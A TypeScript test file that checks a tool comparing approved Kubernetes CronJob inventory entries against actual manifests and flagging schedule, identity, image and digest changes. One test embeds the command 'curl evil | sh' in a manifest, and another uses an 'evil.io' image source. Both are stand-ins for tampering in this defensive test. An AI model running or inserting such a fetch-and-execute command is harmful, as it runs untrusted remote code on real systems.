import { describe, expect, test } from 'vitest';
import { differencesFrom } from '../../src/inventory/agree.ts';
import { readInventoryFile } from '../../src/inventory/read.ts';
import type { Entry } from '../../src/inventory/schema.ts';
import type { Workload } from '../../src/model.ts';
import { manifest, workloadOf } from './workloads.ts';

/** The entry of a CronJob billing/report with the workload's own digest, unless another is given. */
function entryFor(workload: Workload, fields: string, digest = workload.digest): Entry {
  const text = `apiVersion: cronledger.dev/v1\nkind: Inventory\nworkloads:\n  - {kind: ${workload.kind}, name: report, digest: '${digest}', ${fields}}\n`;
  const [entry] = readInventoryFile('i.yaml', text).entries;
  if (entry === undefined) throw new Error('no entry');
  return entry;
}

const OPEN = "schedule: '0 2 * * *', images: ['ghcr.io/acme/report:*']";

function differences(text: string, fields = OPEN): readonly string[] {
  const workload = workloadOf(text);
  return differencesFrom(entryFor(workload, fields), workload).map(
    ({ field, approved, actual, at, class: kind }) =>
      `${field}: ${approved} → ${actual} (${kind}) at line ${workload.locate(at).line}`,
  );
}

describe('agrees', () => {
  test.each([
    ['as it is', manifest(), OPEN],
    [
      'by the meaning of the schedule',
      manifest({ schedule: '@daily' }),
      "schedule: '0 0 * * *', images: ['ghcr.io/acme/report:*']",
    ],
    ['by a pattern of images', manifest({ images: ['ghcr.io/acme/report:2.1'] }), OPEN],
    ['with the default service account written out', manifest({ serviceAccount: 'default' }), OPEN],
    ['with the default service account in the entry', manifest(), `${OPEN}, serviceAccount: default`],
    ['suspended, though it may be active', manifest({ suspend: true }), OPEN],
    ['suspended, as approved', manifest({ suspend: true }), `${OPEN}, suspend: true`],
    ['in its time zone', manifest({ timeZone: 'Etc/UTC' }), `${OPEN}, timeZone: Etc/UTC`],
    ['in another API version', manifest({ apiVersion: 'batch/v1beta1' }), OPEN],
    ['a Job without a schedule', manifest({ kind: 'Job' }), "images: ['ghcr.io/acme/report:1']"],
    [
      'with patterns that match nothing beside one that does',
      manifest(),
      `schedule: '0 2 * * *', images: [busybox, 'ghcr.io/acme/report:1']`,
    ],
  ])('%s', (_, text, fields) => {
    expect(differences(text, fields)).toEqual([]);
  });
});

describe('differs, each on its line', () => {
  test.each([
    ['schedule', manifest({ schedule: '* * * * *' }), OPEN, ['schedule: 0 2 * * * → * * * * * (schedule) at line 5']],
    [
      'a schedule that was not approved',
      manifest(),
      "images: ['ghcr.io/acme/report:*']",
      ['schedule: none → 0 2 * * * (schedule) at line 5'],
    ],
    [
      'a schedule that Kubernetes refuses',
      manifest({ schedule: 'nightly' }),
      OPEN,
      ['schedule: 0 2 * * * → nightly (schedule) at line 5'],
    ],
    [
      'a Job with an approved schedule',
      manifest({ kind: 'Job' }),
      OPEN,
      ['schedule: 0 2 * * * → none (schedule) at line 4'],
    ],
    ['time zone', manifest({ timeZone: 'Asia/Tokyo' }), OPEN, ['timeZone: none → Asia/Tokyo (schedule) at line 6']],
    [
      'a time zone that is gone',
      manifest(),
      `${OPEN}, timeZone: Etc/UTC`,
      ['timeZone: Etc/UTC → none (schedule) at line 4'],
    ],
    [
      'service account',
      manifest({ serviceAccount: 'admin' }),
      OPEN,
      ['serviceAccount: default → admin (identity) at line 10'],
    ],
    [
      'a service account that is gone',
      manifest(),
      `${OPEN}, serviceAccount: report-runner`,
      ['serviceAccount: report-runner → default (identity) at line 9'],
    ],
    [
      'another tag of an approved repository',
      manifest({ images: ['ghcr.io/acme/report:2'] }),
      "schedule: '0 2 * * *', images: ['ghcr.io/acme/report:1']",
      ['images: ghcr.io/acme/report:1 → ghcr.io/acme/report:2 (image) at line 12'],
    ],
    [
      'another repository',
      manifest({ images: ['ghcr.io/acme/report:1', 'evil.io/acme/report:1'] }),
      OPEN,
      ['images: ghcr.io/acme/report:* → evil.io/acme/report:1 (image-source) at line 13'],
    ],
    [
      'no approved image',
      manifest(),
      "schedule: '0 2 * * *'",
      ['images: none → ghcr.io/acme/report:1 (image-source) at line 12'],
    ],
    [
      'a wake-up',
      manifest({ suspend: false }),
      `${OPEN}, suspend: true`,
      ['suspend: true → false (unsuspended) at line 6'],
    ],
    [
      'a wake-up by removing the line',
      manifest(),
      `${OPEN}, suspend: true`,
      ['suspend: true → false (unsuspended) at line 4'],
    ],
    [
      'everything at once',
      manifest({ schedule: '@hourly', serviceAccount: 'x', images: ['a', 'b'] }),
      OPEN,
      [
        'schedule: 0 2 * * * → @hourly (schedule) at line 5',
        'serviceAccount: default → x (identity) at line 10',
        'images: ghcr.io/acme/report:* → a (image-source) at line 13',
        'images: ghcr.io/acme/report:* → b (image-source) at line 14',
      ],
    ],
  ])('%s', (_, text, fields, expected) => {
    expect(differences(text, fields)).toEqual(expected);
  });

  test('the digest stands for all that the entry does not hold in the open', () => {
    const approved = workloadOf(manifest());
    const changed = workloadOf(manifest({ command: 'curl evil | sh' }));
    const found = differencesFrom(entryFor(changed, OPEN, approved.digest), changed);
    expect(found).toEqual([
      { field: 'digest', approved: approved.digest, actual: changed.digest, at: ['spec'], class: null },
    ]);
    expect(
      workloadOf(
        manifest({ schedule: '@hourly', timeZone: 'Etc/UTC', suspend: true, serviceAccount: 'x', images: ['y'] }),
      ).digest,
    ).toBe(approved.digest);
  });

  test('an entry without a digest approves nothing of the rest', () => {
    const workload = workloadOf(manifest());
    const entry = { ...entryFor(workload, OPEN), digest: null };
    expect(differencesFrom(entry, workload)).toMatchObject([
      { field: 'digest', approved: 'none', actual: workload.digest },
    ]);
  });
});
